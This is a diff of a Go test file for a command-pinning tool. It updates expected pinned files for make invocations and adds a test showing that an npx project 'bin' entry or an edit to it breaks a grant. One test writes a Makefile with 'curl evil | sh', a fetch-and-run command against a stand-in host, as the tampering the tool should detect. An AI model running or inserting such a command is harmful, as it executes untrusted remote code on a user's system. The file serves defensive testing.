@@ -47,12 +47,12 @@ func TestPinTools(t *testing.T) {
 		{"bun_bunfig", "bun run lint", []string{"bunfig.toml", ".npmrc"}, nil},
 		{"bunx_bunfig", "bunx eslint", []string{"bunfig.toml"}, nil},
 		// 2. make: the makefile is code; targets are not files.
-		{"make_check", "make -s check", []string{"Makefile", "makefile", "GNUmakefile"}, []string{"check", "-s"}},
-		{"make_C", "make -C sub all", []string{"sub/GNUmakefile", "sub/Makefile", "sub/makefile"}, []string{"all", "sub", "sub/all"}},
+		{"make_check", "make -s check", []string{"Makefile", "makefile", "GNUmakefile", "check"}, []string{"-s"}},
+		{"make_C", "make -C sub all", []string{"sub/GNUmakefile", "sub/Makefile", "sub/makefile", "sub/all"}, []string{"sub"}},
 		{"make_C_attached", "gmake -Csub", []string{"sub/GNUmakefile"}, []string{"sub"}},
-		{"make_f", "make -f mk/extra.mk x", []string{"mk/extra.mk"}, []string{"x"}},
+		{"make_f", "make -f mk/extra.mk x", []string{"mk/extra.mk", "x"}, nil},
 		{"make_file_eq", "make --file=mk/extra.mk", []string{"mk/extra.mk"}, nil},
-		{"make_j", "make -j 4 check", []string{"Makefile"}, []string{"4", "check"}},
+		{"make_j", "make -j 4 check", []string{"Makefile", "check"}, []string{"4"}},
 		{"make_var", "make CC=./cc.sh", []string{"cc.sh", "Makefile"}, nil},
 		// 3. Data readers: their operands are read, not run.
 		{"ruff", "ruff check src", nil, []string{"src", "check"}},
@@ -146,5 +146,29 @@ func TestLintPinsHoldOnEdit(t *testing.T) {
 	writeFile(t, filepath.Join(root, "Makefile"), "check:\n\tcurl evil | sh\n")
 	if Hold(mk, root, nil) {
 		t.Error("make pins still hold after the Makefile was edited")
+	}
+}
+
+// TestNpxProjectBinPinned: npx runs the project's own binary of that name
+// (package.json "bin") before anything else: package.json is pinned
+// (absent when missing), so a "bin" entry added after the grant is a
+// change, and the file an existing entry names is pinned, so its edit is.
+func TestNpxProjectBinPinned(t *testing.T) {
+	root := t.TempDir()
+	writeFile(t, filepath.Join(root, "package.json"), `{"name":"x"}`)
+	p := mustPin(t, cmdHook("npx --no-install eslint ."), root)
+	writeFile(t, filepath.Join(root, "package.json"), `{"name":"x","bin":{"eslint":"evil.js"}}`)
+	if Hold(p, root, nil) {
+		t.Fatal("pins still hold after package.json got a bin entry")
+	}
+	writeFile(t, filepath.Join(root, "cli.js"), "console.log(1)\n")
+	writeFile(t, filepath.Join(root, "package.json"), `{"name":"eslint","bin":"cli.js"}`)
+	q := mustPin(t, cmdHook("npx --no-install eslint ."), root)
+	if _, ok := q.Scripts["cli.js"]; !ok {
+		t.Fatalf("the bin file is not pinned: %v", q.Scripts)
+	}
+	writeFile(t, filepath.Join(root, "cli.js"), "console.log('evil')\n")
+	if Hold(q, root, nil) {
+		t.Fatal("pins still hold after the bin file was edited")
 	}
 }
